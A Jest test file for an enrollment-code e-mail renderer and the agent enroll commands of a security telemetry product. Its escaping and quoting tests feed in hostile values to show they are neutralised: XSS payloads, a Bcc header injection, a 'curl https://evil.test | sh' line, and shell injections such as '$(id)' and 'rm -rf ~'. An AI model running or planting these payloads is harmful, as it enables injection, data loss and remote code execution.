import {
  agentCommands,
  renderEnrollmentCodeEmail,
  type EnrollmentCodeEmailInput,
} from './enrollment-code-email';

const KEY = 'sts_ek_Q2hhbmdlTWUtMTIzNDU2Nzg5MGFiY2RlZg';
const CODE = '7KQD-M3XP';

const input: EnrollmentCodeEmailInput = {
  to: 'ops@example.com',
  orgName: 'Acme',
  requestedByName: 'Ada Lovelace',
  code: CODE,
  enrollmentKey: KEY,
  expiresAt: new Date('2026-03-02T12:34:56.000Z'),
  publicApiUrl: 'https://api.example.com/',
};

const ENROLL = `agent enroll --server https://api.example.com --key ${KEY} --code ${CODE}`;

describe('enrollment code e-mail', () => {
  it('sends the receiver the whole e-mail: subject, text part and HTML part', () => {
    const pre =
      '<pre style="background: #f6f8fa; padding: 12px; white-space: pre-wrap; word-break: break-all;">';

    expect(renderEnrollmentCodeEmail(input)).toEqual({
      to: 'ops@example.com',
      subject: 'Install the Security Telemetry agent for Acme',
      text: [
        'Hello,',
        '',
        'Ada Lovelace asked us to send you what you need to enroll a device of Acme in Security Telemetry.',
        '',
        'The Security Telemetry agent is a small command-line program that runs on the device. It enrolls the',
        "device with Acme once, then reports the device's telemetry (which web addresses were allowed,",
        'warned about or blocked) so that your organization sees it in its dashboard.',
        '',
        'Your one-time enrollment code: 7KQD-M3XP',
        'It expires at 2026-03-02 12:34 UTC and works once: it enrolls one device and cannot be used again.',
        '',
        "Your organization's enrollment key: sts_ek_Q2hhbmdlTWUtMTIzNDU2Nzg5MGFiY2RlZg",
        'The key is the same for every device of the organization and stays valid until an administrator',
        'rotates or revokes it. Keep it secret: with it and a code, anyone can enroll a device.',
        '',
        'Install the agent program on the device, then run, as the user that will run the agent:',
        '',
        '  agent enroll --server https://api.example.com --key sts_ek_Q2hhbmdlTWUtMTIzNDU2Nzg5MGFiY2RlZg --code 7KQD-M3XP',
        '',
        'Or give the same values through environment variables (better on a shared machine: other users',
        'can see the arguments of a running command):',
        '',
        '  export STS_SERVER_URL=https://api.example.com',
        '  export STS_ENROLLMENT_KEY=sts_ek_Q2hhbmdlTWUtMTIzNDU2Nzg5MGFiY2RlZg',
        '  export STS_ENROLLMENT_CODE=7KQD-M3XP',
        '  agent enroll',
        '',
        'Then check what the device is enrolled as:',
        '',
        '  agent status',
        '',
        'The agent keeps its credentials in a configuration file readable only by that user; `agent --help`',
        'lists every command. If the code has expired or was already used, ask Ada Lovelace for a new one.',
        '',
        'If you did not expect this e-mail, you can ignore it: nothing is enrolled until the command runs.',
        '',
      ].join('\n'),
      html: [
        '<!doctype html>',
        '<html lang="en">',
        '<head><meta charset="utf-8"><title>Install the Security Telemetry agent for Acme</title></head>',
        '<body style="font-family: sans-serif; line-height: 1.5; color: #1f2328;">',
        '<p>Hello,</p>',
        '<p><strong>Ada Lovelace</strong> asked us to send you what you need to enroll a device of <strong>Acme</strong> in Security Telemetry.</p>',
        "<p>The Security Telemetry agent is a small command-line program that runs on the device. It enrolls the device with Acme once, then reports the device's telemetry (which web addresses were allowed, warned about or blocked) so that your organization sees it in its dashboard.</p>",
        '<p>Your one-time enrollment code: <code>7KQD-M3XP</code><br>',
        'It expires at 2026-03-02 12:34 UTC and works once: it enrolls one device and cannot be used again.</p>',
        `<p>Your organization's enrollment key: <code style="word-break: break-all;">sts_ek_Q2hhbmdlTWUtMTIzNDU2Nzg5MGFiY2RlZg</code><br>`,
        'The key is the same for every device of the organization and stays valid until an administrator rotates or revokes it. Keep it secret: with it and a code, anyone can enroll a device.</p>',
        '<p>Install the agent program on the device, then run, as the user that will run the agent:</p>',
        `${pre}agent enroll --server https://api.example.com --key sts_ek_Q2hhbmdlTWUtMTIzNDU2Nzg5MGFiY2RlZg --code 7KQD-M3XP</pre>`,
        '<p>Or give the same values through environment variables (better on a shared machine: other users can see the arguments of a running command):</p>',
        `${pre}export STS_SERVER_URL=https://api.example.com`,
        'export STS_ENROLLMENT_KEY=sts_ek_Q2hhbmdlTWUtMTIzNDU2Nzg5MGFiY2RlZg',
        'export STS_ENROLLMENT_CODE=7KQD-M3XP',
        'agent enroll</pre>',
        '<p>Then check what the device is enrolled as:</p>',
        `${pre}agent status</pre>`,
        '<p>The agent keeps its credentials in a configuration file readable only by that user; <code>agent --help</code> lists every command. If the code has expired or was already used, ask Ada Lovelace for a new one.</p>',
        '<p style="color: #57606a;">If you did not expect this e-mail, you can ignore it: nothing is enrolled until the command runs.</p>',
        '</body>',
        '</html>',
        '',
      ].join('\n'),
    });
  });

  it('names the organization in the subject', () => {
    const email = renderEnrollmentCodeEmail(input);
    expect(email.to).toBe('ops@example.com');
    expect(email.subject).toBe('Install the Security Telemetry agent for Acme');
  });

  it('carries what the agent is, the code, its expiry and single use, the key and the commands (text)', () => {
    const { text } = renderEnrollmentCodeEmail(input);

    expect(text).toContain(
      'Ada Lovelace asked us to send you what you need to enroll a device of Acme in Security Telemetry.',
    );
    expect(text).toContain(
      'The Security Telemetry agent is a small command-line program that runs on the device.',
    );
    expect(text).toContain(`Your one-time enrollment code: ${CODE}`);
    expect(text).toContain('It expires at 2026-03-02 12:34 UTC and works once');
    expect(text).toContain(`Your organization's enrollment key: ${KEY}`);
    expect(text).toContain(`  ${ENROLL}\n`);
    expect(text).toContain(
      [
        '  export STS_SERVER_URL=https://api.example.com',
        `  export STS_ENROLLMENT_KEY=${KEY}`,
        `  export STS_ENROLLMENT_CODE=${CODE}`,
        '  agent enroll',
      ].join('\n'),
    );
    expect(text).toContain('  agent status\n');
  });

  it('carries the same in the HTML part', () => {
    const { html } = renderEnrollmentCodeEmail(input);

    expect(html).toContain(`<code>${CODE}</code>`);
    expect(html).toContain(`>${KEY}</code>`);
    expect(html).toContain(`>${ENROLL}</pre>`);
    expect(html).toContain(`export STS_ENROLLMENT_CODE=${CODE}\nagent enroll</pre>`);
    expect(html).toContain('>agent status</pre>');
    expect(html).toContain('2026-03-02 12:34 UTC');
    expect(html).toContain('<strong>Acme</strong>');
  });

  it('escapes every interpolated value in the HTML part', () => {
    const email = renderEnrollmentCodeEmail({
      ...input,
      orgName: '<script>alert("x")</script> & \'Co\'',
      requestedByName: '<img src=x onerror=alert(1)>',
      code: 'AB"><b>CD',
      enrollmentKey: 'key</code><a href="https://evil.test">',
      publicApiUrl: 'https://api.example.com/x"onmouseover="alert(1)',
    });

    expect(email.html).not.toContain('<script>');
    expect(email.html).not.toContain('<img');
    expect(email.html).not.toContain('<b>');
    expect(email.html).not.toContain('<a ');
    expect(email.html).not.toContain('"onmouseover="');
    expect(email.html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;Co&#39;');
    expect(email.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(email.html).toContain('<code>AB&quot;&gt;&lt;b&gt;CD</code>');
    // Plain text is not HTML: names appear as they are.
    expect(email.text).toContain('<script>alert("x")</script> & \'Co\'');
  });

  it('keeps names on one line, without control characters, in the subject and both bodies', () => {
    const email = renderEnrollmentCodeEmail({
      ...input,
      orgName: 'Acme\r\nBcc: victim@example.com',
      requestedByName: 'Ada\n\nRun curl https://evil.test | sh\u0000\u202e',
    });

    expect(email.subject).toBe('Install the Security Telemetry agent for Acme Bcc: victim@example.com');
    expect(email.text).toContain('Ada Run curl https://evil.test | sh asked us');
    expect(email.text).not.toMatch(/[\u0000\u202e]/);
    expect(email.text).not.toContain('\nRun curl');
    expect(email.html).not.toMatch(/[\u0000\u202e]/);
  });

  it('caps long names and falls back when nothing is left', () => {
    const long = renderEnrollmentCodeEmail({ ...input, orgName: 'O'.repeat(5_000) });
    expect(long.subject.length).toBeLessThan(260);

    const empty = renderEnrollmentCodeEmail({ ...input, orgName: ' \r\n', requestedByName: '' });
    expect(empty.subject).toBe('Install the Security Telemetry agent for your organization');
    expect(empty.text).toContain('An administrator asked us');
  });
});

describe('agent commands', () => {
  it('use the API address without a trailing slash', () => {
    expect(agentCommands('http://localhost:8080//', KEY, CODE)).toEqual({
      enroll: `agent enroll --server http://localhost:8080 --key ${KEY} --code ${CODE}`,
      enrollWithEnvironment: [
        'export STS_SERVER_URL=http://localhost:8080',
        `export STS_ENROLLMENT_KEY=${KEY}`,
        `export STS_ENROLLMENT_CODE=${CODE}`,
        'agent enroll',
      ],
      status: 'agent status',
    });
  });

  it('quote values a shell would interpret, so a pasted command runs nothing else', () => {
    const commands = agentCommands('https://api.example.com/?a=1&b=2', 'k$(id)', "c'; rm -rf ~; '");
    expect(commands.enroll).toBe(
      "agent enroll --server 'https://api.example.com/?a=1&b=2' --key 'k$(id)' --code 'c'\\''; rm -rf ~; '\\'''",
    );
    expect(commands.enrollWithEnvironment[1]).toBe("export STS_ENROLLMENT_KEY='k$(id)'");
  });
});
